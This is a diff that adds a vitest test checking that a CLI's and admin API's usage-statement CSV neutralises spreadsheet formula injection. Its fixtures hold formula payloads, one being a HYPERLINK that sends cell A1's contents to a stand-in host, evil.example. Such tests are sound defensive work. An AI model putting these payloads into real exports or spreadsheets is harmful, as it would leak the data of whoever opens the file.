@@ -9,6 +9,7 @@ import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { type AdminHarness, startAdminHarness } from '../support/admin.js';
 import { backends } from '../support/backends.js';
 import { mds } from '../support/cli.js';
+import { createAccount, createGrant } from '../support/keys.js';
 
 const today = () => new Date().toISOString().slice(0, 10);
 
@@ -66,6 +67,39 @@ describe.each(backends())('mds usage on $name', (backend) => {
     const table = await mds(['usage', 'statement'], { db: h.db.url });
     expect(table.stdout).toMatch(/^ACCOUNT\s+ACCOUNT EXTERNAL ID\s+GRANT/);
     expect(table.stdout).toContain(grantId);
+  });
+
+  it('the statement CSV neutralises text a spreadsheet would run, in the CLI as in the admin API', async () => {
+    // Formula injection (docs/decisions.md 84): an external id or a provider is the customer's text.
+    const link = '=HYPERLINK("http://evil.example/?"&A1,"click")';
+    const account = await createAccount(h.store, { name: 'Formula', externalId: link });
+    const grant = await createGrant(h.store, {
+      accountId: account.id,
+      plan: '-1+2',
+      provider: '@SUM(A1:A9)',
+      externalId: '=1+1',
+      scopes: ['rates:read'],
+      monthlyRequestLimit: 1000,
+      requestsPerMinute: 60,
+    });
+    const month = today().slice(0, 7);
+    const api = await h.call('GET', `/admin/v1/usage/statement?month=${month}`, {
+      token,
+      headers: { accept: 'text/csv' },
+    });
+    expect(api.statusCode, api.body).toBe(200);
+    const line = api.body.split('\r\n').find((l) => l.includes(grant.id));
+    expect(line).toBe(
+      `${account.id},"'=HYPERLINK(""http://evil.example/?""&A1,""click"")",${grant.id},'-1+2,'@SUM(A1:A9),'=1+1,0,1000`,
+    );
+    const csv = await mds(['usage', 'statement', '--month', month, '--csv'], { db: h.db.url });
+    expect(csv.status, csv.stderr).toBe(0);
+    expect(csv.stdout).toBe(api.body);
+    // The JSON keeps the values as stored.
+    const json = await mds(['usage', 'statement', '--month', month, '--json'], { db: h.db.url });
+    const stored = json.json().lines.find((l: { grant: { id: string } }) => l.grant.id === grant.id);
+    expect(stored.account.externalId).toBe(link);
+    expect(stored.grant.provider).toBe('@SUM(A1:A9)');
   });
 
   it('refuses a bad window, month or option naming it, exit code 2', async () => {
